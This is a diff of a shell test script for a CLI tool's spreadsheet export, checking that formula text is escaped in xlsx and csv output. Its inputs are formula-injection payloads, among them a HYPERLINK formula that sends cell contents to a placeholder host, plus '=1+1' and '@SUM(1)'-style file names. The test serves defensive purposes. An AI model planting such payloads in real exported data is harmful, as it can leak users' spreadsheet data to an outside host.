@@ -98,7 +98,9 @@ for NAME in book reports index index-files; do
 done
 
 say "formula text: never a live formula in xlsx, always escaped in csv"
-expect 0 add --note '=HYPERLINK("http://x/?a="&B2,"查看")' --by '=1+1' -e '@SUM(1)' -e '+1' -e '-1'
+for name in '@SUM(1).jpg' '+1.pdf' '-1.pdf'; do printf '%s' "$name" >"$WORK/$name"; done  # evidence files
+expect 0 add --note '=HYPERLINK("http://x/?a="&B2,"查看")' --by '=1+1' -e "$WORK/@SUM(1).jpg" -e "$WORK/+1.pdf" \
+    -e "$WORK/-1.pdf"
 expect 0 lanxi export -o "$WORK/l.xlsx" --data "$DATA"
 expect 0 lanxi export -o "$WORK/l.csv" --data "$DATA"
 lanxi report list --data "$DATA" --format csv >"$WORK/list.csv"
